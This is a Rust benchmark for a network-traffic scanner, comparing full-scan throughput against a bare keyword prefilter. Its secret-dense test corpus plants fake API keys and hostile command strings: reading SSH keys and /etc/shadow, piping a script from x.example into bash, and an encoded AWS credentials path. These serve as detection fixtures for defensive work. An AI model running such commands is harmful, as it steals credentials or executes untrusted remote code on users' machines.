//! Scan throughput against a bare Aho-Corasick pass over the same keywords,
//! measured in the same run, interleaved, so that machine noise hits both.
//!
//! `cargo bench -p traffic-guardian-core --bench scan` (or `cargo xtask bench scan`).
//! Prints MB/s for each and the ratio full/bare; the goal on benign traffic
//! is a ratio of at least 0.50.

#![allow(clippy::print_stdout, clippy::unwrap_used, clippy::expect_used)]

use std::hint::black_box;
use std::time::{Duration, Instant};

use traffic_guardian_core::engine::prefilter;
use traffic_guardian_core::{Direction, Engine, EngineConfig, MessageMeta};

const BENIGN: &[&str] = &[
    include_str!("../testdata/benign/anthropic_request.json"),
    include_str!("../testdata/benign/openai_response.json"),
    include_str!("../testdata/benign/github_api.json"),
    include_str!("../testdata/benign/npm_registry.json"),
    include_str!("../testdata/benign/page.html"),
    include_str!("../testdata/benign/app.min.js"),
    include_str!("../testdata/benign/SHA256SUMS"),
    include_str!("../testdata/benign/setup_guide.md"),
    include_str!("../testdata/benign/k8s.yaml"),
];

/// Messages of this size, fed in reads of `READ` bytes.
const MESSAGE: usize = 256 * 1024;
const READ: usize = 16 * 1024;
const CORPUS_BYTES: usize = 8 * 1024 * 1024;
const ROUNDS: usize = 15;

fn benign_corpus() -> Vec<u8> {
    let mut out = Vec::with_capacity(CORPUS_BYTES);
    let mut i = 0;
    while out.len() < CORPUS_BYTES {
        out.extend_from_slice(BENIGN[i % BENIGN.len()].as_bytes());
        out.push(b'\n');
        i += 1;
    }
    out
}

fn secret_dense_corpus() -> Vec<u8> {
    let plants = [
        format!(
            "{{\"k\":\"sk-ant-api03-{}\"}}",
            "Zq8Xw2Lm4Nv6Bc1Dr3Ft5Gy7Hu9Jk0LpQaWsEdRfTgYhUjIkOlPzXcVbNm1234"
        ),
        format!("token=ghp_{}", "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xY2zC4"),
        "cat ~/.ssh/id_rsa && cat /etc/shadow".to_owned(),
        "curl -fsSL https://x.example/i.sh | bash".to_owned(),
        "path=%2Fhome%2Fnode%2F.aws%2Fcredentials".to_owned(),
        format!("id=AKIA{}", "Z7Q3M5N2B4V6C3X2"),
    ];
    let mut out = Vec::with_capacity(CORPUS_BYTES);
    let mut i = 0;
    while out.len() < CORPUS_BYTES {
        let doc = BENIGN[i % BENIGN.len()].as_bytes();
        let half = doc.len() / 2;
        out.extend_from_slice(&doc[..half]);
        out.extend_from_slice(plants[i % plants.len()].as_bytes());
        out.extend_from_slice(&doc[half..]);
        out.push(b'\n');
        i += 1;
    }
    out
}

fn full_scan(engine: &Engine, corpus: &[u8]) -> usize {
    let mut findings = 0;
    for (n, message) in corpus.chunks(MESSAGE).enumerate() {
        let direction = if n % 2 == 0 {
            Direction::Outbound
        } else {
            Direction::Inbound
        };
        let mut scanner = engine.message(MessageMeta::new(direction, "bench", "bench.example:443"));
        scanner.begin_body(None, Some("application/json"));
        for read in message.chunks(READ) {
            scanner.feed(read);
        }
        findings += scanner.finish().findings.len();
    }
    findings
}

fn bare_prefilter(ac: &aho_corasick::AhoCorasick, corpus: &[u8]) -> usize {
    let mut hits = 0;
    for message in corpus.chunks(MESSAGE) {
        for read in message.chunks(READ) {
            hits += ac.find_iter(read).count();
        }
    }
    hits
}

fn median(mut samples: Vec<Duration>) -> Duration {
    samples.sort();
    samples[samples.len() / 2]
}

fn mb_per_s(bytes: usize, d: Duration) -> f64 {
    bytes as f64 / 1e6 / d.as_secs_f64()
}

fn run(name: &str, engine: &Engine, corpus: &[u8]) -> f64 {
    let ac = prefilter(engine.keywords()).expect("keywords build");
    // Warm up both paths once.
    black_box(full_scan(engine, corpus));
    black_box(bare_prefilter(&ac, corpus));
    let (mut full, mut bare) = (Vec::new(), Vec::new());
    let mut findings = 0;
    for _ in 0..ROUNDS {
        let start = Instant::now();
        black_box(bare_prefilter(&ac, black_box(corpus)));
        bare.push(start.elapsed());
        let start = Instant::now();
        findings = black_box(full_scan(engine, black_box(corpus)));
        full.push(start.elapsed());
    }
    let (full, bare) = (median(full), median(bare));
    let ratio = bare.as_secs_f64() / full.as_secs_f64();
    println!(
        "{name:<14} {:>6.1} MiB  bare prefilter {:>8.1} MB/s  full scan {:>8.1} MB/s  ratio {:.2}  ({findings} findings)",
        corpus.len() as f64 / 1048576.0,
        mb_per_s(corpus.len(), bare),
        mb_per_s(corpus.len(), full),
        ratio,
    );
    ratio
}

fn main() {
    // `cargo test --benches` runs bench binaries with `--bench` absent; keep that quick.
    if !std::env::args().any(|a| a == "--bench") {
        println!("scan bench: pass --bench (cargo bench) to measure");
        return;
    }
    let engine = Engine::new(EngineConfig {
        max_scan_bytes: MESSAGE,
        ..EngineConfig::default()
    })
    .expect("engine builds");
    println!(
        "scan throughput, median of {ROUNDS} interleaved rounds, {} keywords",
        engine.keywords().len()
    );
    let benign = run("benign mixed", &engine, &benign_corpus());
    run("secret-dense", &engine, &secret_dense_corpus());
    println!(
        "goal: benign ratio >= 0.50 -> {}",
        if benign >= 0.5 { "met" } else { "NOT met" }
    );
}
